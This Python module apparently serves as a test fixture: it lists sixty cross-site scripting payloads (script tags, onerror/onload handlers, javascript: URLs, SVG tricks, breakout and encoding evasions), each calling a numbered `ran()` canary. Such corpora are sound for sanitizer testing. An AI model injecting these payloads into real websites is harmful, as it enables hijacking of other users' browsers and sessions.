"""Sixty ways to run a script in somebody else's browser; each would call `ran` with its own number."""

from __future__ import annotations

_WAYS = r"""
<script>RAN</script>
<ScRiPt>RAN</sCrIpT>
<script src=data:,RAN></script>
<script/x>RAN</script>
<scr<script>ipt>RAN</scr</script>ipt>
</script><script>RAN</script>
</title><script>RAN</script>
</textarea><script>RAN</script>
</style><script>RAN</script>
</option></select><script>RAN</script>
--><script>RAN</script><!--
]]><script>RAN</script>
"><script>RAN</script>
'><script>RAN</script>
<img src=x onerror=RAN>
<img/src=x/onerror=RAN>
"><img src=x onerror=RAN>
'><img src=x onerror=RAN>
<img src=x onerror="RAN" alt=`
<img srcset=x onerror=RAN>
<picture><source srcset=x><img src=x onerror=RAN></picture>
<svg onload=RAN>
<svg/onload=RAN>
"><svg onload=RAN>
<svg><script>RAN</script></svg>
<svg><animate onbegin=RAN attributeName=x dur=1s>
<svg><set onbegin=RAN attributeName=x>
<svg><a xlink:href="javascript:RAN"><text y=9>x</text></a></svg>
<math><a xlink:href="javascript:RAN">x</a></math>
<body onload=RAN>
<iframe srcdoc="<script>parent.RAN</script>"></iframe>
<iframe src="javascript:parent.RAN"></iframe>
<object data="javascript:RAN"></object>
<embed src="javascript:RAN">
<video src=x onerror=RAN></video>
<video><source onerror=RAN></video>
<audio src=x onerror=RAN></audio>
<details open ontoggle=RAN>x</details>
<input autofocus onfocus=RAN>
<select autofocus onfocus=RAN></select>
<textarea autofocus onfocus=RAN></textarea>
<a autofocus tabindex=1 onfocus=RAN>x</a>
<a href="javascript:RAN">x</a>
<a href=" &#1;javascript:RAN">x</a>
<a href="java&#9;script:RAN">x</a>
<form><button formaction="javascript:RAN">x</button></form>
<form action="javascript:RAN"><input type=submit></form>
<meta http-equiv=refresh content="0;url=javascript:RAN">
<base href="javascript:/RAN//">
<link rel=stylesheet href=x onerror=RAN>
<style onload=RAN></style>
<marquee onstart=RAN>x</marquee>
<div style="animation-name:x" onanimationstart=RAN onpointerenter=RAN>x</div>
<noscript><p title="</noscript><img src=x onerror=RAN>">
<template><img src=x onerror=RAN></template><img src=x onerror=RAN>
" autofocus onfocus=RAN x="
' autofocus onfocus='RAN
{{ constructor.constructor("RAN")() }}
${RAN}';RAN;//";RAN;//
&lt;script&gt;RAN&lt;/script&gt;<!--><img src=x onerror=RAN>
"""
PAYLOADS = [
    way.replace("RAN", f"ran({number})")
    for number, way in enumerate(line for line in _WAYS.splitlines() if line)
]
assert len(PAYLOADS) == 60
